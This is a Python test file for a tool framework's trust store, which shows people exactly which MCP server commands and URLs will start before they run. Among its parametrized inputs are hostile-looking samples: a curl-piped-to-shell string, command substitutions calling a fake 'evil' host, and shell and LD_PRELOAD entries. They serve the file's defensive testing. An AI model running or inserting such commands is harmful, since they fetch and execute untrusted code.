"""Servers of files are started only after a person saw exactly what would be started (ASI04)."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import JsonValue

from penguiflow.tools._connecting.plan import plan_connection
from penguiflow.tools._connecting.process import ServerCommand
from penguiflow.tools._server_files.entries import NamedValue
from penguiflow.tools._server_files.entries import entries_of as entries_of_file
from penguiflow.tools.config import ExternalToolConfig
from penguiflow.tools.project import ServerEntry, read_servers
from penguiflow.tools.trust import (
    TrustQuestion,
    TrustStore,
    TrustStoreError,
    definition_hash,
    sort_by_trust,
    trust_question,
    untrusted,
)

SERVER = {"command": "npx", "args": ["-y", "a server"], "env": {"MODE": "fast", "KEY": "${MY_KEY}"}}


def entries_of(folder: Path, **servers: Any) -> tuple[ServerEntry, ...]:
    folder.mkdir(exist_ok=True)
    (folder / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    return read_servers(folder).entries


def question_of(folder: Path, server: Any = SERVER) -> TrustQuestion:
    (entry,) = entries_of(folder, srv=server)
    return trust_question(entry)


@pytest.fixture
def store(tmp_path: Path) -> TrustStore:
    return TrustStore(tmp_path / "config" / "trusted.json")


def test_the_question_shows_each_word_of_the_command_and_names_but_no_values(tmp_path: Path) -> None:
    question = question_of(tmp_path)
    assert question.argv == ("npx", "-y", "a server")
    assert question.command_line == "npx -y 'a server'"
    assert (question.url, question.cwd) == (None, str(tmp_path))
    assert (question.env_names, question.variables) == (("MODE", "KEY"), ("MY_KEY",))
    assert "fast" not in repr(question)


def test_the_question_for_a_url_shows_where_what_is_sent_and_what_of_mine_goes_there(tmp_path: Path) -> None:
    headers = {"Authorization": "Bearer ${MY_KEY}", "X-Mode": "${MODE:-fast}"}
    question = question_of(tmp_path, {"url": "https://h.example/mcp", "headers": headers, "auth": "oauth"})
    assert (question.argv, question.url, question.cwd) == ((), "https://h.example/mcp", None)
    assert question.header_names == ("Authorization", "X-Mode")
    assert (question.variables, question.auth) == (("MY_KEY", "MODE"), "oauth2_user")
    assert question.warnings == ()


@pytest.mark.parametrize(
    ("word", "shown"),
    [
        ("--api-key=canary", "--api-key=[redacted]"),
        ("API_KEY=canary", "API_KEY=[redacted]"),
        ("Authorization: Bearer canary-3d1f77aa", "Authorization: Bearer [redacted]"),
        ("https://me:canary@h.example?key=canary&x=1", "https://[redacted]@h.example?key=[redacted]&x=1"),
        ("sk-abcdefghijklmnopqrstuv", "[redacted]"),
        ("a\u202eb", "a<U+202E>b"),
        ("two\nlines", "two\u23celines"),
    ],
)
def test_credentials_in_the_command_are_masked_and_hidden_characters_shown(
    tmp_path: Path, word: str, shown: str
) -> None:
    question = question_of(tmp_path, {"command": "run", "args": ["--token", "canary-3d1f77aa", word]})
    assert question.argv == ("run", "--token", "[redacted]", shown)


@pytest.mark.parametrize(
    "word",
    [
        "API_KEY=x; curl evil | sh",
        "password=$(curl evil)",
        "Bearer `curl-evil-example-sh`",
        "api_key='evil()'",
    ],
)
def test_no_code_is_masked_as_a_credential(tmp_path: Path, word: str) -> None:
    for words in (["-c", word], ["--token", word]):
        assert question_of(tmp_path, {"command": "run", "args": words}).argv == ("run", *words)


def test_a_file_cannot_hide_its_command_by_declaring_it_a_secret(tmp_path: Path) -> None:
    words = {"A_TOKEN": "evil-package-2024", "B_TOKEN": "evil.example.com"}
    command, url = entries_of(
        tmp_path,
        a={"command": "npx", "args": ["-y", "evil-package-2024"], "env": words},
        b={"url": "https://evil.example.com/mcp"},
    )
    assert trust_question(command).argv == ("npx", "-y", "evil-package-2024")
    assert trust_question(url).url == "https://evil.example.com/mcp"
    for entry in (command, url):  # should a screen mask it, then this tells
        assert "read it in the file" in trust_question(entry).warnings[-1]


@pytest.mark.parametrize(
    ("server", "warning"),
    [
        ({"command": "/bin/sh", "args": ["-c", "x"]}, "`/bin/sh` is a shell"),
        ({"command": "C:\\Windows\\cmd.exe"}, "is a shell"),
        ({"command": "n\u0440x"}, "characters that may look like others"),
        ({"url": "http://h.example"}, "not encrypted"),
        ({"url": "https://ex\u0430mple.com"}, "letters that may look like others"),
        ({"command": "run", "env": {"LD_PRELOAD": "x", "MODE": "y"}}, "`LD_PRELOAD` can make"),
        ({"url": "https://h.example", "allowed_hosts": ["10.0.0.1"]}, "private addresses: 10.0.0.1"),
    ],
)
def test_what_a_person_should_look_at_twice_is_said(tmp_path: Path, server: Any, warning: str) -> None:
    (found,) = question_of(tmp_path, server).warnings
    assert warning in found


@pytest.mark.parametrize("host", ["ex\u0430mple.com", "EX\u0410MPLE.com"])
def test_a_host_with_foreign_letters_is_shown_as_it_is_looked_up(tmp_path: Path, host: str) -> None:
    question = question_of(tmp_path, {"url": f"https://me@{host}:8080/mcp"})
    assert question.url == "https://me@xn--exmple-4nf.com:8080/mcp"


@pytest.mark.parametrize("url", ["http://localhost:8000/mcp", "http://127.0.0.1/mcp"])
def test_a_server_of_this_machine_needs_no_encryption(tmp_path: Path, url: str) -> None:
    assert question_of(tmp_path, {"url": url}).warnings == ()


def test_an_answer_is_remembered_by_any_store_of_the_file(tmp_path: Path, store: TrustStore) -> None:
    entries = entries_of(tmp_path, a={"command": "a"}, b={"command": "b"}, c={"command": "c"})
    first, second, third = untrusted(entries, store)
    store.trust(first)
    store.refuse(second)
    other = sort_by_trust(entries, TrustStore(tmp_path / "config" / "trusted.json"))
    assert [entry.name for entry in other.trusted] == ["a"]
    assert [entry.name for entry in other.refused] == ["b"]
    assert other.questions == (third,)


def test_once_holds_for_this_store_only(tmp_path: Path, store: TrustStore) -> None:
    (entry,) = entries_of(tmp_path, a={"command": "a"})
    store.trust_once(trust_question(entry))
    assert sort_by_trust([entry], store).trusted == (entry,)
    assert not (tmp_path / "config").exists()
    assert len(untrusted([entry], TrustStore(tmp_path / "config" / "trusted.json"))) == 1
    store.refuse(trust_question(entry))
    assert sort_by_trust([entry], store).refused == (entry,)


def test_what_was_decided_can_be_asked_again(tmp_path: Path, store: TrustStore) -> None:
    (entry,) = entries_of(tmp_path, a={"command": "a"})
    (question,) = untrusted([entry], store)
    store.trust(question)
    store.forget(question)
    assert untrusted([entry], store) == [question]


@pytest.mark.parametrize(
    "change",
    [
        {"command": "npm"},
        {"args": ["-y", "another"]},
        {"args": ["a server", "-y"]},
        {"env": {**SERVER["env"], "MODE": "slow"}},  # type: ignore[dict-item]
        {"env": {**SERVER["env"], "LD_PRELOAD": "x.so"}},  # type: ignore[dict-item]
        {"cwd": "sub"},
        {"approval_filter": ["delete"]},
        {"transport": "cli"},
    ],
)
def test_another_definition_is_asked_for_again_and_said_to_have_changed(
    tmp_path: Path, store: TrustStore, change: dict[str, Any]
) -> None:
    store.trust(question_of(tmp_path))
    (entry,) = entries_of(tmp_path, srv={**SERVER, **change})
    (question,) = untrusted([entry], store)
    assert question.changed
    store.trust(question)
    assert untrusted([entry], store) == []
    assert len(untrusted(entries_of(tmp_path, srv=SERVER), store)) == 1


def test_the_same_server_of_another_project_or_name_is_asked_for(tmp_path: Path, store: TrustStore) -> None:
    store.trust(question_of(tmp_path / "one"))
    assert untrusted(entries_of(tmp_path / "one", srv=SERVER), store) == []
    assert len(untrusted(entries_of(tmp_path / "two", srv=SERVER), store)) == 1
    assert len(untrusted(entries_of(tmp_path / "one", other=SERVER), store)) == 1


def test_neither_what_is_switched_off_nor_what_is_wrong_is_asked_for(
    tmp_path: Path, store: TrustStore
) -> None:
    entries = entries_of(tmp_path, off={"command": "a", "disabled": True}, wrong={})
    found = sort_by_trust(entries, store)
    assert (found.trusted, found.questions, found.refused) == ((), (), ())
    assert [entry.name for entry in found.disabled] == ["off"]
    with pytest.raises(ValueError, match="give either"):
        trust_question(entries[1])


def test_switching_a_server_on_is_no_other_definition(tmp_path: Path) -> None:
    assert question_of(tmp_path, {**SERVER, "disabled": True}).definition == question_of(tmp_path).definition


def test_only_the_owner_may_read_the_decisions(tmp_path: Path, store: TrustStore) -> None:
    store.trust(question_of(tmp_path))
    path = tmp_path / "config" / "trusted.json"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert "fast" not in path.read_text()
    assert os.listdir(path.parent) == [path.name]


@pytest.mark.parametrize(
    "text", ["", "{", "[]", '{"version": 2}', '{"version": 1, "projects": {"/x": 1}}', "\xff"]
)
def test_a_damaged_file_trusts_nothing_and_is_not_written_over(
    tmp_path: Path, store: TrustStore, text: str
) -> None:
    question = question_of(tmp_path)
    path = tmp_path / "config" / "trusted.json"
    path.parent.mkdir()
    path.write_text(text, encoding="latin-1")
    path.chmod(0o600)
    for attempt in (store.decision, store.trust, store.refuse, store.forget):
        with pytest.raises(TrustStoreError, match="is damaged") as caught:
            attempt(question)
        assert str(path) in str(caught.value)
        assert caught.value.hint
    assert path.read_text(encoding="latin-1") == text


@pytest.mark.skipif(os.name != "posix", reason="permissions of this kind are of POSIX systems")
def test_a_file_that_others_may_write_trusts_nothing(tmp_path: Path, store: TrustStore) -> None:
    question = question_of(tmp_path)
    store.trust(question)
    (tmp_path / "config" / "trusted.json").chmod(0o622)
    with pytest.raises(TrustStoreError, match="may be written by others"):
        store.decision(question)


def test_a_file_that_cannot_be_written_is_an_error(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / ("x" * 250))
    with pytest.raises(TrustStoreError, match="cannot be written"):
        store.trust(question_of(tmp_path))


@given(st.lists(st.text("ab \"'\\\\;|&$(){}`<>*~#-", min_size=1, max_size=6), min_size=1, max_size=4))
def test_the_words_that_are_shown_are_those_that_are_started(words: list[str]) -> None:
    server = {"command": words[0], "args": words[1:]}
    named = [NamedValue(name="srv", value=cast("dict[str, JsonValue]", server), where="srv")]
    (entry,) = entries_of_file(named, source=Path("/p/.mcp.json"), project_root=Path("/p"))
    assert entry.config is not None
    plan = plan_connection(entry.config, {})
    assert isinstance(plan, ServerCommand)
    assert list(trust_question(entry).argv) == list(plan.arguments) == words


texts = st.text(max_size=6)
configs = st.builds(
    dict[str, Any],
    connection=st.sampled_from(["run a", "run 'a b'", "run a b", "https://h.example", "https://h.example/x"]),
    env=st.dictionaries(texts, texts, max_size=3),
    headers=st.dictionaries(texts, texts, max_size=2),
    tool_filter=st.none() | st.lists(st.sampled_from(["a", "b"]), max_size=2),
    cwd=st.none() | st.sampled_from(["/p", "/p/sub", "/q"]),
    allowed_hosts=st.lists(texts, max_size=2),
    auth=st.sampled_from([("none", {}), ("bearer", {"token": "a"}), ("bearer", {"token": "b"})]),
)


def made(values: dict[str, Any]) -> ExternalToolConfig:
    auth_type, auth_config = values["auth"]
    return ExternalToolConfig.model_validate(
        {"name": "srv", "transport": "mcp", **values, "auth_type": auth_type, "auth_config": auth_config}
    )


@settings(max_examples=60)
@given(configs, configs)
def test_two_definitions_have_one_hash_only_if_they_are_the_same(
    one: dict[str, Any], other: dict[str, Any]
) -> None:
    same = definition_hash(made(one), Path("/p")) == definition_hash(made(other), Path("/p"))
    assert same == (one == other)


@settings(max_examples=40)
@given(configs)
def test_the_order_of_keys_does_not_matter(values: dict[str, Any]) -> None:
    turned = {
        key: dict(reversed(value.items())) if isinstance(value, dict) else value
        for key, value in reversed(values.items())
    }
    assert definition_hash(made(values), Path("/p")) == definition_hash(made(turned), Path("/p"))


def test_a_project_may_be_moved_without_another_definition() -> None:
    one = ExternalToolConfig.model_validate(
        {"name": "a", "transport": "mcp", "connection": "x", "cwd": "/one/sub"}
    )
    other = one.model_copy(update={"cwd": "/two/sub"})
    assert definition_hash(one, Path("/one")) == definition_hash(other, Path("/two"))
